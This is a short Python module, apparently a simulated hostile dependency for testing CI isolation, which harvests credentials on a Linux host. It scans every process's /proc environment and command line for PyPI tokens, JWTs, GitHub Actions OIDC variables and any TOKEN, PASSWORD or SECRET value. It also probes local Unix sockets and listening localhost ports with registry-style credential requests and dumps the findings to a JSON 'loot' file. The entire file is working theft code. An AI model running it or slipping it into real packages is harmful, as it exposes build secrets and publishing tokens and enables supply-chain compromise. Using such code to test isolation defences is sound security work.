"""Code of a stranger: takes down whatever the processes of its user hold, and what any socket gives away."""

import glob
import json
import os
import re
import socket

SECRET = re.compile(
    rb"cio_tp_[A-Za-z0-9]{32}|pypi-[A-Za-z0-9_-]{16,}|eyJ[\w-]{20,}\.eyJ[\w-]{20,}\.[\w-]{20,}"
    rb"|(?:ACTIONS_ID_TOKEN_REQUEST_\w+|\w*(?:TOKEN|PASSWORD|SECRET)\w*)=[^\0]+"
)

QUESTIONS = [
    {"v": 1, "kind": "get", "operation": operation, "name": "tidewater-core", "vers": "0.1.0", "cksum": "0" * 64}
    for operation in ("publish", "read", "yank", "owners", "modify", None)
]


def environments():
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                for found in SECRET.findall(file.read()):
                    yield path, found.decode("utf-8", "replace")
        except OSError:
            pass


def ask(family, address):
    for question in QUESTIONS:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as one:
                one.settimeout(0.2)
                one.connect(address)
                one.sendall(json.dumps(question).encode() + b"\n")
                answer = one.recv(65536)
        except OSError:
            return
        for found in SECRET.findall(answer):
            yield str(address), found.decode("utf-8", "replace")
        if b'"token"' in answer:
            yield str(address), answer.decode("utf-8", "replace")


def sockets():
    with open("/proc/net/unix") as rows:
        for row in rows.readlines()[1:]:
            path = row.split()[7] if len(row.split()) > 7 else ""
            if path:
                yield from ask(socket.AF_UNIX, path.replace("@", "\0", 1) if path[0] == "@" else path)
    with open("/proc/net/tcp") as rows:
        for row in rows.readlines()[1:]:
            fields = row.split()
            if fields[3] == "0A":
                yield from ask(socket.AF_INET, ("127.0.0.1", int(fields[1].split(":")[1], 16)))


def steal(who):
    into = os.environ.get("LOOT")
    if not into or not os.path.isdir("/proc"):
        return
    found = sorted(set(environments()) | set(sockets()))
    name = "{}-{}-{}.json".format(os.environ.get("GITHUB_JOB", "here"), who, os.getpid())
    with open(os.path.join(into, name), "w") as file:
        json.dump({"who": who, "job": os.environ.get("GITHUB_JOB"), "found": found}, file)
